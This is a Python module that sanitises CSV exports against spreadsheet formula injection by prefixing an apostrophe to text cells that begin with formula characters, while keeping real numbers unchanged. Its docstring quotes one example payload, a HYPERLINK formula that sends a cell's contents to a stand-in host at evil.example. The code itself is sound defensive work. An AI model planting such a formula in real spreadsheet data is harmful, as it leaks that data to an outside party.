"""CSV that a spreadsheet opens as data: every CSV Trilho writes goes through `csv_safe_writer`.

Excel, LibreOffice and Google Sheets run a cell that begins with `=`, `+`, `-` or `@` as a
formula (and tab or carriage return can hide such a start), so a card title like
`=HYPERLINK("https://evil.example/?"&A1, "Open")` typed into a public form would run on the
reviewer's machine. Such a text cell is written with a leading apostrophe, which spreadsheets
show as text and which a reader can see was added (OWASP's advice for CSV injection). Numbers
stay numbers: a real number (an int or Decimal, or a text like "-12.5") is written as it is.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def csv_cell(value: Any) -> Any:
    """The value, made inert for a spreadsheet when it is text that would start a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


class CsvSafeWriter:
    """A `csv.writer` whose every cell passes through `csv_cell`."""

    def __init__(self, out: Any) -> None:
        self._writer = csv.writer(out)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([csv_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_safe_writer(out: Any) -> CsvSafeWriter:
    """Write CSV rows to `out` (a file, an HttpResponse, or anything with `write`), formulas disarmed."""
    return CsvSafeWriter(out)
